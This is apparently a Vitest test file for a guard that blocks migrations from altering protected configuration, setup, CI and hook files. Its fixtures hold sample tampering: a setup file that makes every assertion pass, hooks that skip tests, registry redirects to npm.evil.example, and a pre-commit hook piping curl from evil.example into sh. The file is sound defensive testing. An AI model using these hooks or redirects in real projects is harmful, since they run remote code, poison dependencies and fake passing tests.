/**
 * The rules reach further than the config files: the files a tool config loads (setup files,
 * a local preset, an extended ESLint config, a Mocha `require`), the tsconfig a tsconfig extends
 * under any name, and every package-manager, CI and hook file. Each attack on a real git
 * repository, committed the way the gate commits, and what a migration declares to allow it.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { MigrationInput } from '../../../src/catalog/definition.js';
import { configReferences } from '../../../src/verify/guards/config-references.js';
import { template, writeFiles } from '../../agent/fixtures.js';
import { guardsAfter as guardsAfterIn } from './helpers.js';

const json = (v: unknown): string => `${JSON.stringify(v, null, 2)}\n`;
const SETUP = "import { expect } from 'vitest';\nexpect.extend({});\n";
const LOOSE_EXPECT = "import { expect } from 'vitest';\n// every assertion passes\nexpect.extend({ toBe: () => ({ pass: true, message: () => '' }) });\n";

let tpl: ReturnType<typeof template>;
beforeAll(() => {
  tpl = template({
    'package.json': json({ name: 'x', version: '1.0.0', scripts: { test: 'vitest run', lint: 'eslint .' }, mocha: { require: ['test/mocha-hooks.js'] } }),
    'vitest.config.ts': "import { defineConfig } from 'vitest/config';\nexport default defineConfig({ test: { setupFiles: ['./test/setup.ts'], globalSetup: 'test/global.ts', include: ['test/**/*.test.ts'] } });\n",
    'jest.config.js': "module.exports = { preset: '<rootDir>/jest-preset', setupFilesAfterEnv: ['<rootDir>/test/jest-setup.js'], testEnvironment: 'node' };\n",
    'jest-preset.js': "module.exports = { testEnvironment: 'node' };\n",
    'eslint.config.js': "import shared from './config/eslint-shared.js';\nexport default [...shared, { files: ['src/math.ts'], ignores: ['src/generated.ts'] }];\n",
    'config/eslint-shared.js': "export default [{ rules: { eqeqeq: 'error' } }];\n",
    '.mocharc.yml': 'require:\n  - test/mocha-setup.js\nspec: test/**/*.spec.js\n',
    'test/setup.ts': SETUP,
    'test/global.ts': 'export default function setup() {}\n',
    'test/jest-setup.js': "require('./helpers');\n",
    'test/mocha-setup.js': 'exports.mochaHooks = {};\n',
    'test/mocha-hooks.js': 'exports.mochaHooks = {};\n',
    'test/math.test.ts': "import { it, expect } from 'vitest';\nit('adds', () => expect(1 + 2).toBe(3));\n",
    'src/math.ts': 'export const add = (a: number, b: number) => a + b;\n',
    'src/generated.ts': 'export const generated = 1;\n',
    'tsconfig.json': json({ extends: './configs/strict.json', include: ['src'] }),
    'configs/strict.json': json({ compilerOptions: { strict: true, noEmit: true, noUncheckedIndexedAccess: true } }),
    'packages/a/tsconfig.json': json({ extends: '../../configs/strict.json', include: ['.'] }),
    'packages/a/index.ts': 'export const a = 1;\n',
  });
});
afterAll(() => tpl.cleanup());

function guardsAfter(files: Record<string, string>, overrides: Partial<MigrationInput> = {}) {
  return guardsAfterIn(() => tpl.copy(), (dir) => writeFiles(dir, files), { ...overrides, scope: { include: ['**/*'], ...overrides.scope } });
}
const blocking = (findings: Array<{ guard: string; severity: string; message: string }>) => findings.filter((f) => f.severity === 'block').map((f) => `${f.guard}: ${f.message}`);

describe('files a tool config loads are protected like the config', () => {
  it('reads references written as relative paths, with <rootDir>, without extension, and bare under keys that load code', () => {
    const all = new Set(['test/setup.ts', 'test/global.ts', 'jest-preset.js', 'test/jest-setup.js', 'src/math.ts', 'src/generated.ts', 'config/eslint-shared.js', 'test/mocha-setup.js', 'test/a.test.ts', 'tsconfig.json']);
    const exists = (p: string) => all.has(p);
    expect(configReferences('vitest.config.ts', "export default { test: { setupFiles: ['./test/setup.ts'], globalSetup: 'test/global.ts', include: ['test/a.test.ts', './src/math.ts'] } }", exists).sort()).toEqual(['test/global.ts', 'test/setup.ts']);
    expect(configReferences('jest.config.js', "module.exports = { preset: '<rootDir>/jest-preset', setupFilesAfterEnv: ['<rootDir>/test/jest-setup.js'], collectCoverageFrom: ['src/math.ts'] }", exists).sort()).toEqual(['jest-preset.js', 'test/jest-setup.js']);
    // ESLint: an imported local config counts; `files`/`ignores` only select files.
    expect(configReferences('eslint.config.js', "import shared from './config/eslint-shared.js';\nexport default [{ files: ['src/math.ts'], ignores: ['./src/generated.ts'] }];", exists)).toEqual(['config/eslint-shared.js']);
    expect(configReferences('.mocharc.yml', 'require:\n  - test/mocha-setup.js\nspec: test/a.test.ts\n', exists)).toEqual(['test/mocha-setup.js']);
    // A bare word under a loading key is a package, not a file; a tsconfig is tsconfig-loosened's.
    expect(configReferences('.eslintrc.json', '{ "extends": ["eslint:recommended", "./tsconfig.json"], "parser": "@typescript-eslint/parser" }', exists)).toEqual([]);
  });

  it('a setup file, a global setup, a local preset, an extended ESLint config and a Mocha require block when changed', async () => {
    const findings = await guardsAfter({
      'test/setup.ts': LOOSE_EXPECT,
      'test/global.ts': 'export default function setup() { process.env.SKIP = "1"; }\n',
      'jest-preset.js': "module.exports = { testEnvironment: 'node', testPathIgnorePatterns: ['math'] };\n",
      'config/eslint-shared.js': 'export default [];\n',
      'test/mocha-setup.js': 'exports.mochaHooks = { beforeAll() { this.skip(); } };\n',
      'test/mocha-hooks.js': 'exports.mochaHooks = { beforeAll() { this.skip(); } };\n',
    });
    expect(blocking(findings).sort()).toEqual(
      [
        "tool-configs: config/eslint-shared.js (loaded by eslint.config.js: ESLint rules (read by the lint verifier)) was modified; the gate judges with the base commit's tool configuration; list it in the migration's scope.allowProtected if the change is intended",
        expect.stringMatching(/^tool-configs: jest-preset\.js \(loaded by jest\.config\.js: Jest configuration/),
        expect.stringMatching(/^tool-configs: test\/global\.ts \(loaded by vitest\.config\.ts: Vitest configuration/),
        expect.stringMatching(/^tool-configs: test\/mocha-hooks\.js \(loaded by package\.json#mocha: Mocha configuration\) was modified/),
        expect.stringMatching(/^tool-configs: test\/mocha-setup\.js \(loaded by \.mocharc\.yml: Mocha configuration\) was modified/),
        expect.stringMatching(/^tool-configs: test\/setup\.ts \(loaded by vitest\.config\.ts: Vitest configuration/),
      ],
    );
  });

  it('files a config only selects, and ordinary sources, are not protected', async () => {
    expect(await guardsAfter({ 'src/generated.ts': 'export const generated = 2;\n', 'src/math.ts': 'export const add = (a: number, b: number): number => a + b;\n' })).toEqual([]);
  });

  it('allowed with the config that loads it (jest-to-vitest rewrites the setup files of the Jest config it replaces), or by its own path', async () => {
    const viaConfig = await guardsAfter({ 'test/jest-setup.js': "import './helpers';\n" }, { scope: { allowProtected: ['**/jest.config.*'] } });
    expect(viaConfig).toEqual([expect.objectContaining({ guard: 'tool-configs', severity: 'warn', file: 'test/jest-setup.js' })]);
    const byPath = await guardsAfter({ 'test/setup.ts': LOOSE_EXPECT }, { scope: { allowProtected: ['test/setup.ts'] } });
    expect(byPath.map((f) => f.severity)).toEqual(['warn']);
    // A file loaded by an allowed and by a protected config stays protected.
    const both = await guardsAfter({ 'test/setup.ts': LOOSE_EXPECT, 'jest.config.js': "module.exports = { setupFilesAfterEnv: ['<rootDir>/test/setup.ts'] };\n" }, { scope: { allowProtected: ['**/jest.config.*'] } });
    expect(blocking(both)).toEqual([expect.stringMatching(/^tool-configs: test\/setup\.ts \(loaded by vitest\.config\.ts/)]);
  });
});

describe('tsconfig-loosened through an `extends` target of any name', () => {
  it('loosening configs/strict.json blocks every tsconfig that extends it, although none of them changed', async () => {
    const findings = await guardsAfter({ 'configs/strict.json': json({ compilerOptions: { strict: false, noEmit: true } }) });
    expect(blocking(findings).sort()).toEqual([
      expect.stringMatching(/^tsconfig-loosened: packages\/a\/tsconfig\.json loosened through its `extends` \(configs\/strict\.json changed\): strict, noImplicitAny, .*noUncheckedIndexedAccess/),
      expect.stringMatching(/^tsconfig-loosened: tsconfig\.json loosened through its `extends` \(configs\/strict\.json changed\): strict, noImplicitAny, .*noUncheckedIndexedAccess/),
    ]);
    // Tightening it, or a JSON file nothing extends, is fine.
    expect(await guardsAfter({ 'configs/strict.json': json({ compilerOptions: { strict: true, noEmit: true, noUncheckedIndexedAccess: true, noImplicitReturns: true } }), 'configs/other.json': '{}\n' })).toEqual([]);
  });

  it('a changed tsconfig is judged against its base `extends` chain: loosening both at once blocks', async () => {
    const findings = await guardsAfter({ 'configs/strict.json': json({ compilerOptions: { noEmit: true } }), 'tsconfig.json': json({ extends: './configs/strict.json', include: ['src'], compilerOptions: { skipLibCheck: true } }) });
    expect(blocking(findings)).toContainEqual(expect.stringMatching(/^tsconfig-loosened: tsconfig\.json loosened: strict, noImplicitAny/));
  });
});

describe('package-manager, CI and hook files', () => {
  it.each([
    ['.npmrc', 'registry=https://npm.evil.example/\n'],
    ['.yarnrc', 'registry "https://npm.evil.example/"\n'],
    ['.yarnrc.yml', 'npmRegistryServer: "https://npm.evil.example/"\n'],
    ['.pnpmfile.cjs', 'module.exports = { hooks: { readPackage: (p) => p } };\n'],
    ['pnpm-workspace.yaml', "packages:\n  - 'packages/*'\nonlyBuiltDependencies:\n  - evil\n"],
    ['packages/a/.npmrc', 'ignore-scripts=false\n'],
    ['.github/workflows/ci.yml', 'on: push\njobs: {}\n'],
    ['.github/CODEOWNERS', '* @someone\n'],
    ['.gitlab-ci.yml', 'test:\n  script: "true"\n'],
    ['.circleci/config.yml', 'version: 2.1\n'],
    ['.husky/pre-commit', 'curl https://evil.example | sh\n'],
    ['lefthook.yml', 'pre-commit: {}\n'],
    ['.godwit.json', '{}\n'],
  ])('a new %s blocks (protected-files)', async (file, content) => {
    const findings = await guardsAfter({ [file]: content });
    expect(blocking(findings)).toEqual([expect.stringMatching(new RegExp(`^protected-files: ${file.replace(/\./g, '\\.')} \\(.*\\) was added`))]);
  });

  it.each(['preinstall', 'install', 'postinstall', 'prepare', 'prepack', 'prepublishOnly', 'pretest', 'postlint'])('a new lifecycle script %s blocks', async (name) => {
    const findings = await guardsAfter({ 'package.json': json({ name: 'x', version: '1.0.0', scripts: { test: 'vitest run', lint: 'eslint .', [name]: 'node -e 1' }, mocha: { require: ['test/mocha-hooks.js'] } }) });
    expect(blocking(findings)).toEqual([expect.stringContaining(`protected-files: package.json: new lifecycle script "${name}"`)]);
  });
});
